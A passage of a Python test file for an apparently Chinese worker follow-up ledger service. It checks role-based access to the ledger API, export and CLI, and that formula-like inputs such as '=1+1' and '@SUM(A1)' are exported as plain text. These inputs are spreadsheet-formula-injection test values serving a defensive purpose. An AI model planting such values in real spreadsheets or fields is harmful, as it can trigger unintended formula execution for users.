        for title, value in (("务工企业", evil), ("姓名", "=1+1"), ("就业岗位", "@SUM(A1)")):
            assert (by_title[title].value, by_title[title].data_type) == (value, "s"), title
    finally:
        exported.close()


def test_reading_the_ledger_needs_a_ledger_role(client, clerk, tmp_path):
    _load(tmp_path, clerk)
    for username, roles in (("insp_cx", ["inspector"]), ("head_cz", ["head"])):
        reader = Actor.of(make_user(username, roles, "532301"))
        with pytest.raises(Forbidden):
            ledger.list_workers(reader)
        with pytest.raises(Forbidden):
            ledger_export.export_lists(reader, None, str(tmp_path / f"{username}.xlsx"))
        assert not (tmp_path / f"{username}.xlsx").exists()
        h = auth(client, username)
        for url in ("/api/v1/ledger", "/api/v1/ledger?list=unemployed", "/api/v1/ledger.xlsx"):
            r = client.get(url, headers=h)
            assert r.status_code == 403, (username, url)
            assert r.get_json()["error"]["code"] == "forbidden" and "回访台账" in r.get_json()["error"]["message"]
    spec = client.get("/api/v1/openapi.json").get_json()["paths"]
    assert all("403" in spec[path][method]["responses"] for path, method in (
        ("/ledger", "get"), ("/ledger", "post"), ("/ledger.xlsx", "get"), ("/ledger/cases", "post")))
    # Clerks, supervisors and administrators read it.
    supervisor = Actor.of(make_user("sup_cz", ["supervisor"], "532300"))
    admin = Actor.of(make_user("admin", ["admin"], "530000"))
    for reader in (clerk, supervisor, admin):
        assert ledger.list_workers(reader)[1] == 5
    assert client.get("/api/v1/ledger", headers=auth(client, "sup_cz")).get_json()["total"] == 5
    assert client.get("/api/v1/ledger.xlsx", headers=auth(client, "admin")).status_code == 200


def test_cli_refuses_a_reader_without_a_ledger_role(app, clerk, tmp_path):
    make_user("insp_cx", ["inspector"], "532301")
    result = app.test_cli_runner().invoke(args=["ledger", "export", str(tmp_path / "x.xlsx"), "--user", "insp_cx"])
    assert result.exit_code == 2 and "error: 只有经办人员或科室负责人可以查看回访台账" in result.output
    assert not (tmp_path / "x.xlsx").exists()
